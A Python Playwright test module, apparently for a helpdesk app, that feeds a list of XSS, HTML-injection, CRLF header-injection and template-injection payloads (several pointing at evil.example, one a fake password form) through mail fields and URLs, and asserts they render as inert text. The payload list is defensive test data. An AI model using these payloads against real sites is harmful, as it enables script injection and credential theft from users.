"""T70, T71, T72: whatever stands in a mail, the page shows it as text; in a browser nothing opens, runs or is fetched."""

from __future__ import annotations

import base64
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import quote

import pytest
from playwright.sync_api import Page

from tests.office import BORDER
from tests.peers.chromium import Chromium, Look, pressed
from tests.peers.site import Served, served

pytestmark = pytest.mark.peer

MARKUP = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=http://evil.example/pixel.png>",
    '"><svg/onload=alert(1)>',
    "'-alert(1)-'",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' onload='alert(1)'/>#x\"></use></svg>",
    '<a href="javascript:alert(1)" autofocus onfocus=alert(1) tabindex=0>click</a>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="data:text/html,<script>alert(1)</script>"></object>',
    "<style>@import 'http://evil.example/x.css'; * { background: url(http://evil.example/y) }</style>",
    '<div style="position:fixed;inset:0;background:url(http://evil.example/z)">give me your password</div>',
    "<link rel=stylesheet href=//evil.example/x.css>",
    '<meta http-equiv=refresh content="0;url=http://evil.example/">',
    "<base href=http://evil.example/>",
    "<form action=http://evil.example/><input name=password><button>send</button></form>",
    "</textarea></title></style></script><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "{{7*7}} {{ cycler.__init__.__globals__ }} {% raw %} ${7*7} %(secret)s",
    "file://evil.example/share \\\\evil.example\\share http://evil.example/",
]
TYPES = [
    "text/html",
    "image/svg+xml",
    "application/xhtml+xml",
    'text/html; x="\\r\\nSet-Cookie: a=1"',
    "<script>alert(1)</script>/html",
]


_LINKS = """() => [...document.querySelectorAll('[href], [src], [action]')].map(one => [
  String(one.href?.baseVal === undefined ? one.href || one.src || one.action : document.baseURI), one.textContent,
  Boolean(one.closest('.message-text')) && one.matches('a[href^="http"]')])"""


def word(text: str) -> str:
    """Encoded words, so that not an octet of it is lost on the way (RFC 2047)."""
    pieces = [text[n : n + 30] for n in range(0, len(text), 30)]
    return "\r\n ".join(f"=?utf-8?b?{base64.b64encode(piece.encode()).decode()}?=" for piece in pieces)


def mail(number: int, text: str) -> bytes:
    """A mail that says it everywhere: as its subject, its author's name, its text, its HTML, the names and types of its files."""
    sender = f"x{number}@customer.example"
    octets = base64.b64encode(text.encode()).decode()
    return "\r\n".join(
        [
            f"Authentication-Results: {BORDER}; dmarc=pass header.from=customer.example",
            f"From: {word(text)} <{sender}>",
            "To: support@help.example",
            f"Subject: {word(text)}",
            f"Message-ID: <xss{number}@customer.example>",
            "Date: Mon, 02 Mar 2026 08:00:00 +0000",
            "MIME-Version: 1.0",
            'Content-Type: multipart/mixed; boundary="b"',
            "",
            "--b",
            "Content-Type: text/plain; charset=utf-8",
            "Content-Transfer-Encoding: base64",
            "",
            octets,
            "--b",
            f"Content-Type: {TYPES[number % len(TYPES)]}",
            f"Content-Disposition: attachment; filename*=utf-8''{quote(text, safe='')}",
            "Content-Transfer-Encoding: base64",
            "",
            octets,
            "--b--",
            "",
        ]
    ).encode()


def html_mail(number: int, text: str) -> bytes:
    """A mail that has nothing but HTML."""
    head = f"From: h{number}@customer.example\r\nTo: support@help.example\r\nSubject: HTML\r\nMIME-Version: 1.0\r\n"
    head += f"Message-ID: <html{number}@customer.example>\r\nDate: Mon, 02 Mar 2026 08:00:00 +0000\r\n"
    return f"{head}Content-Type: text/html; charset=utf-8\r\n\r\n<p>Hello</p>{text}<p>Bye</p>\r\n".encode()


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
    """A desk that got each of these: #1 to #n as text, then each as HTML."""
    folder: Path = tmp_path_factory.mktemp("hostile")
    with served(folder) as house:
        house.office.partner("vera@supplier", "Vera", queue="support")
        for make, who in ((mail, "x"), (html_mail, "h")):
            for number, text in enumerate(MARKUP):
                sender = f"{who}{number}@customer.example"
                house.office.mail(sender, "support", "", "", raw=make(number, text), rcpt_to="support")
            house.work()
        yield house


def astray(page: Page, house: Served) -> list[str]:
    """All that the page could load or lead to, but its own; and a link that somebody wrote must lead where it says."""
    found = page.evaluate(_LINKS)
    return [where for where, text, written in found if not where.startswith(house.url) and not (written and where == text)]


def told(text: str) -> str:
    return " ".join(text.split())


def test_what_stands_in_a_mail_is_text_on_its_page(chromium: Chromium, hostile: Served) -> None:
    with chromium.tab(hostile.url) as page:
        for number, text in enumerate(MARKUP):
            page.goto(hostile.ticket(f"x{number}@customer", number + 1))
            assert told(page.locator("h1").inner_text()) == f"#{number + 1} {told(text)}"
            assert told(text) in told(page.locator(".message-text").first.inner_text())
            assert told(text)[:40] in told(page.locator(".message-who").first.inner_text())
            assert astray(page, hostile) == []
            assert (
                page.locator("main")
                .locator("script, style, iframe, object, embed, base, meta, link, img, form[action*=evil]")
                .count()
                == 0
            )


def test_what_stands_in_a_mails_html_runs_nowhere_and_leads_nowhere(chromium: Chromium, hostile: Served) -> None:
    with chromium.tab(hostile.url) as page:
        for number in range(len(MARKUP)):
            page.goto(hostile.ticket(f"h{number}@customer", len(MARKUP) + number + 1))
            assert "Hello" in page.locator(".message-text").first.inner_text()
            assert astray(page, hostile) == []


def test_it_is_text_in_the_lists_of_its_author_and_on_the_pages_of_partners(chromium: Chromium, hostile: Served) -> None:
    with chromium.tab(hostile.url) as page:
        page.goto(hostile.sign_in("vera@supplier"))
        pressed(page.locator("main button"))
        for number, text in [*enumerate(MARKUP)][::4]:
            page.goto(hostile.mine(f"x{number}@customer"))
            assert told(text) in told(page.locator(".ticket-subject").first.inner_text())
            assert astray(page, hostile) == []
            page.goto(f"{hostile.url}/p/{number + 1}/")
            assert told(page.locator("h1").inner_text()) == f"#{number + 1} {told(text)}"
            assert told(text) in told(page.locator(".message-text").first.inner_text())
            assert astray(page, hostile) == []
            page.goto(f"{hostile.url}/p/{number + 1}/reply")
            assert astray(page, hostile) == []
        page.goto(f"{hostile.url}/p/?status=all")
        assert astray(page, hostile) == []


def test_what_stands_in_an_address_is_not_on_the_page(chromium: Chromium, hostile: Served) -> None:
    with chromium.tab(hostile.url, Look(language="de")) as page:
        for text in MARKUP[::4]:
            for place in (f"/t/{quote(text, safe='')}/", f"/t/1/?lang={quote(text, safe='')}", f"/{quote(text)}"):
                page.goto(hostile.url + place)
                assert astray(page, hostile) == [], place
